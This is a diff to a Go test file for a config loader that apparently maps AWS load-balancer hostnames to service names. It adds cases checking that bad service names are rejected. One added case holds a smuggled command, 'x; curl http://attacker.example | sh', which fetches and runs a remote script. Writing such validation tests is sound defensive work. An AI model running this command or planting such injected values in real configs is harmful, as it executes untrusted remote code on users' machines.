@@ -36,6 +36,8 @@ func TestLoadConfigNamesFieldAndLine(t *testing.T) {
 		{"an unknown placeholder is rejected", "ddsd:\n  nameTemplate: '{service}.{cluster}'\n", "line 2", "unknown placeholder {cluster}"},
 		{"a non-ELB hostname in the map is rejected", "ddsd:\n  elbs:\n    api.example.com: api\n", "line 3", "ddsd.elbs[api.example.com]"},
 		{"an invalid service name in the map is rejected", "ddsd:\n  elbs:\n    a-1.us-east-1.elb.amazonaws.com: Not_Valid\n", "line 3", "ddsd.elbs[a-1.us-east-1.elb.amazonaws.com]"},
+		{"a shell command as the service name is rejected", "ddsd:\n  elbs:\n    a-1.us-east-1.elb.amazonaws.com: 'x; curl http://attacker.example | sh'\n", "line 3", "ddsd.elbs[a-1.us-east-1.elb.amazonaws.com]"},
+		{"a dotted service name is rejected", "ddsd:\n  elbs:\n    a-1.us-east-1.elb.amazonaws.com: evil.example.com\n", "line 3", "ddsd.elbs[a-1.us-east-1.elb.amazonaws.com]"},
 		{"YAML that does not parse names its line", "sidecar:\n  image: [\n", "line 2", "yaml"},
 	}
 	for _, tt := range tests {
